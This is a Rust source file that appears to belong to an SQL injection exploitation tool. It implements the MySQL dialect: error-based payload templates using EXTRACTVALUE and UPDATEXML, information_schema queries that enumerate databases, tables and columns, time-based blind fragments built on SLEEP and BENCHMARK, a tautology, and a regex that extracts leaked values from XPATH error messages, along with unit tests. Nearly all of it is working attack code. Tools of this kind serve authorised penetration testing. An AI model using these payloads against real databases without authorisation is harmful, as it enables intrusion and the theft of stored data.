use super::{Capabilities, Dialect, PayloadTemplate};
use crate::sqli::core::enums::DBMS;
use once_cell::sync::Lazy;
use regex::Regex;

/// `XPATH syntax error: '~value~'`, closing `~` missing once truncated.
/// Only `~'` or the quote that ends the message closes the value, so quotes
/// inside it survive.
static XPATH_ERROR: Lazy<Regex> = Lazy::new(|| {
    Regex::new(r"(?m)XPATH syntax error: '~(.*?)(?:~'|'\s*(?:<|$))").unwrap()
});

const ERROR_PAYLOADS: &[PayloadTemplate] = &[
    PayloadTemplate {
        name: "extractvalue",
        template: "EXTRACTVALUE(1,CONCAT(0x7e,({expr}),0x7e))",
        dbms: DBMS::MySQL,
        columns: 1,
    },
    PayloadTemplate {
        name: "updatexml",
        template: "UPDATEXML(1,CONCAT(0x7e,({expr}),0x7e),1)",
        dbms: DBMS::MySQL,
        columns: 1,
    },
];

#[derive(Debug, Clone, Copy, Default)]
pub struct MySql;

impl Dialect for MySql {
    fn dbms(&self) -> DBMS {
        DBMS::MySQL
    }

    fn concatenate(&self, parts: &[&str]) -> String {
        format!("CONCAT({})", parts.join(","))
    }

    fn version_query(&self) -> &'static str {
        "VERSION()"
    }

    fn current_user_query(&self) -> &'static str {
        "CURRENT_USER()"
    }

    fn current_db_query(&self) -> &'static str {
        "DATABASE()"
    }

    fn hostname_query(&self) -> &'static str {
        "@@HOSTNAME"
    }

    fn databases_query(&self) -> String {
        "SELECT GROUP_CONCAT(schema_name SEPARATOR 0x7c) FROM information_schema.schemata"
            .to_string()
    }

    fn tables_query(&self, database: &str) -> String {
        format!(
            "SELECT GROUP_CONCAT(table_name SEPARATOR 0x7c) FROM information_schema.tables WHERE table_schema={}",
            self.quote_string(database)
        )
    }

    fn columns_query(&self, database: &str, table: &str) -> String {
        format!(
            "SELECT GROUP_CONCAT(column_name SEPARATOR 0x7c) FROM information_schema.columns WHERE table_schema={} AND table_name={}",
            self.quote_string(database),
            self.quote_string(table)
        )
    }

    fn sleep_function(&self, seconds: u64) -> Option<String> {
        Some(format!("SLEEP({})", seconds))
    }

    fn heavy_query(&self, seconds: u64) -> String {
        format!("BENCHMARK({},MD5(0x41))", seconds * 5_000_000)
    }

    fn if_then_else(&self, condition: &str, then: &str, otherwise: &str) -> String {
        format!("IF(({}),{},{})", condition, then, otherwise)
    }

    fn error_payloads(&self) -> &'static [PayloadTemplate] {
        ERROR_PAYLOADS
    }

    fn error_pattern(&self) -> Option<&'static Regex> {
        Some(&XPATH_ERROR)
    }

    fn error_truncation(&self) -> Option<usize> {
        Some(31)
    }

    fn capabilities(&self) -> Capabilities {
        Capabilities {
            stacked_queries: false,
            error_based: true,
            union: true,
            file_io: true,
            os_exec: false,
            subqueries: true,
            case_when: true,
            limit_offset: true,
        }
    }

    fn tautology(&self) -> &'static str {
        "CONNECTION_ID()=CONNECTION_ID()"
    }

    fn conditional_delay(&self, condition: &str, seconds: u64) -> String {
        format!("IF(({}),SLEEP({}),0)", condition, seconds)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_blind_fragments() {
        let d = MySql;
        assert_eq!(
            d.ascii(&d.substring("SELECT user()", 3, 1)),
            "ASCII(SUBSTRING((SELECT user()),3,1))"
        );
        assert_eq!(d.length("@@version"), "LENGTH((@@version))");
        assert_eq!(d.conditional_delay("1=1", 5), "IF((1=1),SLEEP(5),0)");
    }

    #[test]
    fn test_xpath_pattern() {
        let body = "<b>XPATH syntax error: '~8.0.32~'</b>";
        let caps = MySql.error_pattern().unwrap().captures(body).unwrap();
        assert_eq!(&caps[1], "8.0.32");

        let truncated = "XPATH syntax error: '~5.7.44-0ubuntu0.18.04.1-log-ent'";
        let caps = MySql.error_pattern().unwrap().captures(truncated).unwrap();
        assert_eq!(&caps[1], "5.7.44-0ubuntu0.18.04.1-log-ent");
        assert_eq!(caps[1].len(), 31);
    }

    #[test]
    fn test_xpath_pattern_keeps_quotes() {
        let pattern = MySql.error_pattern().unwrap();

        let body = "<b>Warning</b>: XPATH syntax error: '~O'Brien~'<br>";
        assert_eq!(&pattern.captures(body).unwrap()[1], "O'Brien");

        let body = "XPATH syntax error: '~say \"hi\" <b>~'";
        assert_eq!(&pattern.captures(body).unwrap()[1], "say \"hi\" <b>");

        // truncated right after a quote
        let body = "<p>XPATH syntax error: '~it''</p>";
        assert_eq!(&pattern.captures(body).unwrap()[1], "it'");
    }
}
